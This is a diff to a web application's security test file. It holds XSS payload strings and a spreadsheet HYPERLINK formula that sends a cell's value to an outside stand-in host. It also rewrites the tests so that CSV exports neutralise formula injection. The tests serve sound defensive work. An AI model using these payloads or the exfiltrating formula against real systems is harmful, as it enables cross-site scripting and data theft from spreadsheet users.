@@ -21,6 +21,8 @@ _SCRIPT = "<script>window.harmed = 1</script><img src=x onerror=window.harmed=1>
 _BREAKING_OUT = "'\"></textarea></title><svg onload=window.harmed=1>{{7654321*3}}"
 _FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1, "open")'
 _PAGE_THAT_RUNS = b"<html><script>document.title = 'harmed'</script></html>"
+_NUMBER = re.compile(r"-?[\d.]+")
+_BEGIN_FORMULAS = ("=", "+", "-", "@", "\t", "\r")
 _LONG_ENOUGH = "a long enough password"
 
 HARMFUL = Words(
@@ -124,17 +126,31 @@ def test_an_upload_is_handed_out_so_that_nothing_in_it_can_run(harmful: World) -
         assert elsewhere.status_code == 404, "of another account it is not there"
 
 
-def test_a_cell_of_a_csv_file_is_no_formula(brokerage: Brokerage, visitor: Visitor) -> None:
-    starts = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1")
-    for number, start in enumerate(starts):
-        identity = {"given_name": start, "family_name": "Falcon"}
+def test_no_cell_of_any_csv_file_is_a_formula(harmful: World) -> None:
+    files = 0
+    with a_visitor(harmful.brokerage) as visitor:
+        for route in PAGES:
+            for address in addresses(route, harmful):
+                answer = visitor.gets(address, params={"format": "csv"})
+                if not answer.headers["content-type"].startswith("text/csv"):
+                    continue
+                files += 1
+                for row in csv.reader(io.StringIO(answer.text)):
+                    for cell in row:
+                        is_number = _NUMBER.fullmatch(cell) is not None
+                        assert is_number or not cell.startswith(_BEGIN_FORMULAS), (address, cell)
+    assert files > 10
+
+
+def test_what_begins_like_a_formula_is_text_in_a_csv_file(
+    brokerage: Brokerage, visitor: Visitor
+) -> None:
+    for number, start in enumerate(_BEGIN_FORMULAS[:4]):
         account = brokerage.open_account(f"falcon.{number}@example.com")
-        brokerage.http.patch(f"/v1/accounts/{account.id}", json={"identity": identity})
-    for path in ("/accounts?format=csv", "/team/audit?format=csv"):
-        for row in csv.reader(io.StringIO(visitor.gets(path).text)):
-            for cell in row:
-                is_number = re.fullmatch(r"-?[\d.]+", cell) is not None
-                assert is_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+        change = {"identity": {"given_name": f"{start}1+1"}}
+        brokerage.http.patch(f"/v1/accounts/{account.id}", json=change).raise_for_status()
+    names = [row[1] for row in csv.reader(io.StringIO(visitor.gets("/accounts?format=csv").text))]
+    assert sorted(names[1:]) == sorted(f"'{start}1+1 Falcon" for start in _BEGIN_FORMULAS[:4])
 
 
 def test_whoever_plants_a_session_is_not_in_it_afterwards(
